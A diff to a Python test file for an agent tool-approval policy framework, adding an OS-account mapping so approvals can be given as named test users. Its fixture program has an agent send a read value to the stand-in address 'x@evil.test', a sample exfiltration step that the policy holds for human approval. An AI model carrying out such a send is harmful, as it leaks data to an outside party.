@@ -15,6 +15,7 @@ from durable_tools import TOOLS, count
 from proctor import CodeAgent, InboxApprover, Policy, RunStore, ScriptedModel
 from proctor.cli import main
 from proctor.errors import StoreError
+from proctor.policy.approvers import os_account
 from proctor.store import ApprovalAnswer
 from proctor.testing import SpanCapture
 
@@ -22,8 +23,12 @@ PROGRAM = "```py\nn = look(1)\nfinal_answer(send('x@evil.test', str(n)))\n```"
 
 
 def _policy(**extra: Any) -> Policy:
+    # The CLI answers as this OS account, `--as` the names the tests give (the policy's mapping allows it).
+    mapping = {"os_users": {os_account(): {"as": ["alice", "bob", "carol"]}}}
+    if "approval" in extra:
+        extra = {**extra, "approval": {**mapping, **extra["approval"]}}
     return Policy.from_dict({
-        "version": 1, "default": "deny", **extra,
+        "version": 1, "default": "deny", "approval": mapping, **extra,
         "rules": [{"name": "reads", "match": {"side_effect": "read"}, "decision": "allow"},
                   {"name": "mail", "match": {"tool": "send"}, "decision": "require_approval", "reason": "human"}],
     })
